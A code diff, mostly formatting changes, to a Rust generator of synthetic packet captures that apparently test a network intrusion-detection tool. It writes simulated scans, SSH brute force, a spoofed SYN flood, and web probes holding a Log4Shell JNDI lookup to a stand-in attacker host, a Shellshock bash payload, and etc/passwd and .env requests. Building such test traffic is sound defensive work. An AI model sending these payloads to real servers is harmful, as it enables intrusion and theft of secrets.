@@ -9,11 +9,11 @@
 use std::io::{self, Write};
 use std::net::{IpAddr, Ipv4Addr, SocketAddr};
 
-use super::app;
 use super::FrameBuilder;
+use super::app;
 use crate::capture::PcapWriter;
 use crate::decode::{LinkType, TcpFlags};
-use crate::incidents::{Nanos, NANOS_PER_SEC};
+use crate::incidents::{NANOS_PER_SEC, Nanos};
 
 const SYN: u8 = TcpFlags::SYN;
 const ACK: u8 = TcpFlags::ACK;
@@ -74,14 +74,13 @@ pub fn write_capture<W: Write>(out: W, mix: &Mix) -> io::Result<Written> {
     let attack_points = [0.2, 0.4, 0.6, 0.8];
     let mut next_attack = 0;
     while generator.written.packets < mix.packets {
-        if mix.attacks {
-            if let Some(point) = attack_points.get(next_attack) {
-                if generator.written.packets as f64 >= point * mix.packets as f64 {
-                    generator.attack(next_attack)?;
-                    next_attack += 1;
-                    continue;
-                }
-            }
+        if mix.attacks
+            && let Some(point) = attack_points.get(next_attack)
+            && generator.written.packets as f64 >= point * mix.packets as f64
+        {
+            generator.attack(next_attack)?;
+            next_attack += 1;
+            continue;
         }
         generator.session()?;
     }
@@ -110,7 +109,9 @@ enum Frame<'a> {
 impl<W: Write> Generator<W> {
     fn emit(&mut self, frame: Frame<'_>) -> io::Result<()> {
         let bytes = match frame {
-            Frame::Tcp(src, dst, flags, seq, ack, payload) => self.frames.tcp(src, dst, flags, seq, ack, payload),
+            Frame::Tcp(src, dst, flags, seq, ack, payload) => {
+                self.frames.tcp(src, dst, flags, seq, ack, payload)
+            }
             Frame::Udp(src, dst, payload) => self.frames.udp(src, dst, payload),
             Frame::Echo(src, dst, seq) => self.frames.icmp_echo_request(src, dst, 0x4242, seq),
         };
@@ -125,13 +126,17 @@ impl<W: Write> Generator<W> {
 
     fn client(&mut self) -> SocketAddr {
         let host = 20 + (self.rng.next() % 30) as u8;
-        self.next_port = if self.next_port >= 60999 { 40000 } else { self.next_port + 1 };
+        self.next_port = if self.next_port >= 60999 {
+            40000
+        } else {
+            self.next_port + 1
+        };
         SocketAddr::new(IpAddr::V4(Ipv4Addr::new(192, 168, 1, host)), self.next_port)
     }
 
     fn server(&mut self, port: u16) -> SocketAddr {
         let n = self.rng.next();
-        let ip = if n % 2 == 0 {
+        let ip = if n.is_multiple_of(2) {
             Ipv4Addr::new(198, 51, 100, (n >> 8) as u8 % 200 + 1)
         } else {
             Ipv4Addr::new(203, 0, 113, (n >> 8) as u8 % 50 + 1)
@@ -148,7 +153,10 @@ impl<W: Write> Generator<W> {
                     "/actualites/conseil-municipal.html?page=2",
                     &[
                         ("Host", "www.example.org"),
-                        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0"),
+                        (
+                            "User-Agent",
+                            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0",
+                        ),
                         ("Accept", "text/html,application/xhtml+xml"),
                         ("Accept-Language", "fr-FR,fr;q=0.9"),
                         ("Cookie", "session=8f2a9c; consent=yes"),
@@ -173,7 +181,9 @@ impl<W: Write> Generator<W> {
                 if let Some(flags) = answer.get_mut(2) {
                     *flags |= 0x80;
                 }
-                answer.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 1, 0x2c, 0, 4, 192, 0, 2, 80]);
+                answer.extend_from_slice(&[
+                    0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 1, 0x2c, 0, 4, 192, 0, 2, 80,
+                ]);
                 self.emit(Frame::Udp(server, client, &answer))
             }
             _ => {
@@ -189,10 +199,23 @@ impl<W: Write> Generator<W> {
 
     /// Handshake, one request, `segments` full-size answers with ACKs
     /// every two, and the close.
-    fn tcp_session(&mut self, client: SocketAddr, server: SocketAddr, request: &[u8], segments: u64) -> io::Result<()> {
+    fn tcp_session(
+        &mut self,
+        client: SocketAddr,
+        server: SocketAddr,
+        request: &[u8],
+        segments: u64,
+    ) -> io::Result<()> {
         let (mut c_seq, mut s_seq) = (self.rng.next() as u32, self.rng.next() as u32);
         self.emit(Frame::Tcp(client, server, SYN, c_seq, 0, &[]))?;
-        self.emit(Frame::Tcp(server, client, SYN | ACK, s_seq, c_seq.wrapping_add(1), &[]))?;
+        self.emit(Frame::Tcp(
+            server,
+            client,
+            SYN | ACK,
+            s_seq,
+            c_seq.wrapping_add(1),
+            &[],
+        ))?;
         c_seq = c_seq.wrapping_add(1);
         s_seq = s_seq.wrapping_add(1);
         self.emit(Frame::Tcp(client, server, ACK, c_seq, s_seq, &[]))?;
@@ -200,7 +223,11 @@ impl<W: Write> Generator<W> {
         c_seq = c_seq.wrapping_add(request.len() as u32);
         let junk = std::mem::take(&mut self.junk);
         for i in 0..segments {
-            let size = if i + 1 == segments { 200 + (self.rng.next() % 1000) as usize } else { MSS };
+            let size = if i + 1 == segments {
+                200 + (self.rng.next() % 1000) as usize
+            } else {
+                MSS
+            };
             let data = junk.get(..size).unwrap_or(&junk);
             self.emit(Frame::Tcp(server, client, ACK, s_seq, c_seq, data))?;
             s_seq = s_seq.wrapping_add(data.len() as u32);
@@ -210,8 +237,22 @@ impl<W: Write> Generator<W> {
         }
         self.junk = junk;
         self.emit(Frame::Tcp(client, server, FIN_ACK, c_seq, s_seq, &[]))?;
-        self.emit(Frame::Tcp(server, client, FIN_ACK, s_seq, c_seq.wrapping_add(1), &[]))?;
-        self.emit(Frame::Tcp(client, server, ACK, c_seq.wrapping_add(1), s_seq.wrapping_add(1), &[]))
+        self.emit(Frame::Tcp(
+            server,
+            client,
+            FIN_ACK,
+            s_seq,
+            c_seq.wrapping_add(1),
+            &[],
+        ))?;
+        self.emit(Frame::Tcp(
+            client,
+            server,
+            ACK,
+            c_seq.wrapping_add(1),
+            s_seq.wrapping_add(1),
+            &[],
+        ))
     }
 
     fn attack(&mut self, which: usize) -> io::Result<()> {
@@ -221,7 +262,10 @@ impl<W: Write> Generator<W> {
                 // A half-open SYN scan: closed ports answer RST, 22 and 80 SYN-ACK.
                 let scanner = IpAddr::V4(Attacks::SCANNER);
                 for port in 1..=Attacks::SCANNED_PORTS {
-                    let (from, to) = (SocketAddr::new(scanner, 61234), SocketAddr::new(server, port));
+                    let (from, to) = (
+                        SocketAddr::new(scanner, 61234),
+                        SocketAddr::new(server, port),
+                    );
                     self.emit(Frame::Tcp(from, to, SYN, 1000, 0, &[]))?;
                     if port == 22 || port == 80 {
                         self.emit(Frame::Tcp(to, from, SYN | ACK, 5000, 1001, &[]))?;
@@ -235,21 +279,35 @@ impl<W: Write> Generator<W> {
             1 => {
                 let banner = b"SSH-2.0-libssh_0.9.6\r\n";
                 for _ in 0..Attacks::SSH_ATTEMPTS {
-                    let from = SocketAddr::new(IpAddr::V4(Attacks::BRUTE_FORCER), self.client().port());
+                    let from =
+                        SocketAddr::new(IpAddr::V4(Attacks::BRUTE_FORCER), self.client().port());
                     self.tcp_session(from, SocketAddr::new(server, 22), banner, 2)?;
                 }
                 Ok(())
             }
             2 => {
                 let attempts: [(&str, &[(&str, &str)]); 4] = [
-                    ("/", &[("Host", "mairie"), ("User-Agent", "${jndi:ldap://203.0.113.99:1389/a}")]),
-                    ("/cgi-bin/status", &[("Host", "mairie"), ("User-Agent", "() { :; }; /bin/bash -c 'id'")]),
+                    (
+                        "/",
+                        &[
+                            ("Host", "mairie"),
+                            ("User-Agent", "${jndi:ldap://203.0.113.99:1389/a}"),
+                        ],
+                    ),
+                    (
+                        "/cgi-bin/status",
+                        &[
+                            ("Host", "mairie"),
+                            ("User-Agent", "() { :; }; /bin/bash -c 'id'"),
+                        ],
+                    ),
                     ("/..%2f..%2f..%2f..%2fetc%2fpasswd", &[("Host", "mairie")]),
                     ("/.env", &[("Host", "mairie")]),
                 ];
                 for (target, headers) in attempts {
                     let request = app::http_request("GET", target, headers, b"");
-                    let from = SocketAddr::new(IpAddr::V4(Attacks::WEB_ATTACKER), self.client().port());
+                    let from =
+                        SocketAddr::new(IpAddr::V4(Attacks::WEB_ATTACKER), self.client().port());
                     self.tcp_session(from, SocketAddr::new(server, 80), &request, 1)?;
                 }
                 Ok(())
@@ -281,7 +339,13 @@ impl Rng {
 /// A SYN flood on the commune's web server (`Attacks::SERVER`:80), one
 /// packet from each of `sources` random spoofed addresses (or all from one
 /// address when `sources` is 1), at 100,000 packets per second.
-pub fn write_syn_flood<W: Write>(out: W, packets: u64, sources: u64, start: Nanos, seed: u64) -> io::Result<Written> {
+pub fn write_syn_flood<W: Write>(
+    out: W,
+    packets: u64,
+    sources: u64,
+    start: Nanos,
+    seed: u64,
+) -> io::Result<Written> {
     let mut writer = PcapWriter::new(out, LinkType::Ethernet)?;
     let mut frames = FrameBuilder::new();
     let mut rng = Rng(seed | 1);
@@ -292,9 +356,10 @@ pub fn write_syn_flood<W: Write>(out: W, packets: u64, sources: u64, start: Nano
         let source = if sources <= 1 {
             Ipv4Addr::new(198, 51, 100, 200)
         } else {
-            // Spread over 1.0.0.0–126.255.255.255: public unicast, never the home net.
+            // Spread over 11.0.0.0–126.255.255.255: public unicast, clear of
+            // 10/8, which is the commune's (private) side.
             let index = (n % sources) as u32;
-            Ipv4Addr::from(0x0100_0000 + index.wrapping_mul(2_654_435_761) % 0x7e00_0000)
+            Ipv4Addr::from(0x0b00_0000 + index.wrapping_mul(2_654_435_761) % 0x7400_0000)
         };
         let from = SocketAddr::new(IpAddr::V4(source), 1024 + (n >> 48) as u16 % 60000);
         let frame = frames.tcp(from, target, SYN, n as u32, 0, &[]);
